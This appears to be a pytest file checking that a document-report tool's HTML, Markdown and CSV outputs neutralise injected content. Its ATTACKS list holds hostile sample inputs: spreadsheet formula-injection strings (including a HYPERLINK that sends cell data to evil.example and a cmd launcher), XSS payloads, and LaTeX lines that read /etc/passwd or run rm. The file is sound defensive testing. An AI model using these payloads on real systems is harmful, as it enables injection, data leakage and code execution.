"""A report in each of its formats, with documents that try to inject links, scripts, formulas and markup."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
import stat
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from memagent_graph import EventKind, RunError
from memagent_graph.plain_text import remove_folders
from memagent_report import Report
from memagent_report.checked_report import build_checked_report
from memagent_report.evidence_matrix import (
    CellState,
    DifferingAnswers,
    Draft,
    EvidenceMatrix,
    MatrixCell,
    QuotePosition,
    ReportDocument,
    ReportMode,
    ReportSection,
    ReportSentence,
    SourceQuote,
    make_extractive_draft,
)
from memagent_report.rendering import escape_for_spreadsheet, escape_markdown
from memagent_report.report_data import ReportEvent
from memagent_report.report_files import format_matrix_csv, write_report
from memagent_report.source_text import SourceText

ATTACKS = (
    '=HYPERLINK("http://evil.example/"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "![pixel](http://evil.example/p.png) [link](javascript:alert(1)) "
    "<img src=http://evil.example/q.png onerror=alert(1)>",
    "<script>alert(1)</script> </style></title><svg onload=alert(1)> "
    "https://evil.example www.evil.example a@evil.example",
    "$\\input{/etc/passwd}$ \\write18{rm} | cell | # heading",
    "[1]: http://evil.example\n\n<details open ontoggle=alert(1)>",
    "{{sections}} {{style}} \u202eevil\u202c \x1b[31m \ud800 \x00",
    "1. one\n- two\n> three\n```\ncode",
)


def make_report(*texts: str, question: str = "What?", names: tuple[str, ...] = ("a.txt", "b.txt", "c.txt")) -> Report:
    """Return an extractive report over documents that consist of these texts."""
    documents, cells, sources = [], [], {}
    for number, text in enumerate(texts):
        document_key = f"sha256:{number:064}"
        reference: Any = {"key": document_key, "name": names[number], "size": len(text), "media_type": "text/plain"}
        documents.append(ReportDocument(names[number], reference))
        quote = SourceQuote(text, 0, len(text), "page 1")
        cells.append(MatrixCell(number, 0, CellState.ANSWERED, text, (quote,), run_id=f"run-{number}"))
        sources[number] = SourceText(text)
    matrix = EvidenceMatrix(question, (question,), tuple(documents), tuple(cells))
    events = [ReportEvent(EventKind.EXTRACTIVE, texts[0])]
    contradictions = (DifferingAnswers(0, ((0,), (1,))),) if len(texts) > 1 else ()
    draft = replace(make_extractive_draft(matrix), contradictions=contradictions)
    return build_checked_report("report-1", "policy", matrix, draft, sources.items(), events)


ALLOWED_ELEMENTS = {
    *("html", "head", "meta", "link", "title", "style", "body", "header", "main", "section"),
    *("a", "p", "h1", "h2", "div", "span", "br", "q", "dl", "dt", "dd", "ul", "ol", "li"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
ACTIVE_TOKENS = {"link_open", "image", "html_inline", "html_block", "fence", "code_inline"}
"""Markdown tokens that no document may introduce."""


class Page(HTMLParser):
    """The elements, attributes and texts of an HTML page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words.append(data)


@pytest.fixture(scope="module")
def attack_report() -> Report:
    return make_report(*ATTACKS, question=ATTACKS[5], names=ATTACKS)


def test_html_loads_runs_and_links_nothing_external(attack_report: Report) -> None:
    html = attack_report.to_html()
    page = Page(html)
    assert {tag for tag, _ in page.tags} <= ALLOWED_ELEMENTS
    for tag, attributes in page.tags:
        assert not [name for name in attributes if name.startswith("on")]
        if tag == "a":
            assert re.fullmatch(r"#(report|quote-\d+)", str(attributes["href"]))
        if tag == "link":
            assert attributes == {"rel": "icon", "href": "data:,"}
        assert "src" not in attributes
    policy = next(
        attributes["content"]
        for _, attributes in page.tags
        if attributes.get("http-equiv") == "Content-Security-Policy"
    )
    style = html.partition("<style>")[2].partition("</style>")[0]
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert str(policy).startswith(f"default-src 'none'; style-src 'sha256-{digest}'")
    assert "script-src" not in str(policy)
    text = "".join(page.words)
    assert "<script>alert(1)</script>" in text
    assert "{{sections}}" in text
    assert not {"\u202e", "\x1b", "\ud800", "\x00"} & set(text)


def parse_markdown(markdown: str) -> list[Any]:
    """Return all tokens of a Markdown text, with tables and raw HTML turned on."""
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    return [nested_token for token in parser.parse(markdown) for nested_token in (token, *(token.children or ()))]


def test_markdown_has_no_links_images_html_or_tex_from_documents(attack_report: Report) -> None:
    text = attack_report.to_markdown()
    kinds = {token.type for token in parse_markdown(text)}
    assert not kinds & {*ACTIVE_TOKENS, "code_block", "s_open"}
    assert not re.search(r"https?://", text)
    assert not re.search(r"(?<!\\)\$", text)
    tables = [token for token in parse_markdown(text) if token.type == "tr_open"]
    assert len(tables) == len(ATTACKS) + 1
    headings = [token for token in parse_markdown(text) if token.type == "heading_open"]
    assert len(headings) == 6  # question, section, contradictions, matrix, quotes, how it was made


@given(st.text())
def test_any_text_stays_text_in_markdown(text: str) -> None:
    escaped = escape_markdown(text)
    for markdown in (f"- {escaped}", f"# {escaped}", f"| a | b |\n|---|---|\n| {escaped} | x |", f"9. {escaped}"):
        kinds = [token.type for token in parse_markdown(markdown)]
        assert not set(kinds) & {*ACTIVE_TOKENS, "em_open", "strong_open"}
        assert sum(kind in {"list_item_open", "heading_open", "tr_open"} for kind in kinds) <= 2


def test_csv_has_no_cell_that_a_spreadsheet_takes_for_a_formula(attack_report: Report) -> None:
    rows = list(csv.reader(io.StringIO(format_matrix_csv(attack_report).decode("utf-8-sig"))))
    assert len(rows) == len(ATTACKS) + 1
    for row in rows:
        assert not [cell for cell in row if re.match(r"\s*[=+\-@\t\r\uff1d]", cell)]
    assert rows[1][rows[0].index("answer")] == f"'{ATTACKS[0]}"


@pytest.mark.parametrize("text", ["=1", " =1", "+1", "-1", "@a", "\t=1", "\uff1d1", "%0", "|x"])
def test_cells_that_begin_like_a_formula_get_an_apostrophe(text: str) -> None:
    assert escape_for_spreadsheet(text).startswith("'")
    assert escape_for_spreadsheet("a=1") == "a=1"


def test_folders_are_removed_from_messages() -> None:
    assert remove_folders(r"no C:\My files\anna\deed.pdf, '/A, B Inc. 7/a b c d e/x.txt'") == "no deed.pdf, 'x.txt'"
    assert remove_folders("no /srv/runs/7 for POST /v1/chat HTTP/1.1 or a/b") == "no 7 for POST chat HTTP/1.1 or a/b"
    assert remove_folders(text := "https://a.b/c/d.html: '/health or /ready', 5 EUR /month for text/plain") == text


def test_report_equals_one_restored_from_its_json(attack_report: Report) -> None:
    report = make_report("Anna paid 5 dollars.", "It rained.")
    values = json.loads(json.dumps(report.to_dict()))
    assert Report.from_dict(values) == report
    assert values["totals"]["quoted"] == 2


def test_unsupported_sentences_are_marked_in_every_format() -> None:
    source_report = make_report("Anna paid 5 dollars.")
    quotes = (QuotePosition(0, 0, 0),)
    sentences = tuple(ReportSentence(f"Anna paid {number} dollars.", quotes) for number in (5, 6))
    draft = Draft(ReportMode.WRITTEN, (ReportSection("Costs", (0,), sentences), ReportSection("None", (0,), ())))
    report = build_checked_report("r", "p", source_report.matrix, draft, [(0, SourceText("Anna paid 5 dollars."))])
    assert [sentence.is_quoted for sentence in report.sentences] == [True, False]
    for text in (report.to_markdown(), report.to_html()):
        assert text.count("not quoted: 6 is in none of its quotes") == 1
        assert "(empty: no document gives an answer)" in text
        assert "verified" not in text


def test_quote_that_is_no_longer_in_its_document_is_not_counted() -> None:
    matrix = make_report("Anna paid 5 dollars.").matrix
    report = build_checked_report(
        "r", "p", matrix, make_extractive_draft(matrix), [(0, SourceText("Anna paid 7 dollars."))]
    )
    assert (report.quotes_checked, report.quotes_found) == (1, 0)
    assert not next(report.sentences).is_quoted


def test_files_are_private_and_never_replace_another_report(tmp_path: Path) -> None:
    report, other_report = make_report("Anna paid 5 dollars."), make_report("It rained.")
    paths = write_report(report, tmp_path / "out", ("md", "html", "csv"))
    assert [path.name for path in paths] == ["report.json", "report.md", "report.html", "matrix.csv"]
    assert stat.S_IMODE(paths[0].stat().st_mode) == 0o600
    assert write_report(report, tmp_path / "out", ("md",))
    renamed_report = Report.from_dict({**other_report.to_dict(), "report_id": "report-2"})
    with pytest.raises(RunError, match="does not belong to this report"):
        write_report(renamed_report, tmp_path / "out", ("md",))
    assert write_report(renamed_report, tmp_path / "out", ("md",), force=True)
    (tmp_path / "else").mkdir()
    (tmp_path / "else/report.md").symlink_to(tmp_path / "out/report.md")
    with pytest.raises(RunError, match="already exists in else"):
        write_report(report, tmp_path / "else", ("md",))
    (tmp_path / "file").write_text("")
    with pytest.raises(RunError, match="cannot be written"):
        write_report(report, tmp_path / "file", ("md",))
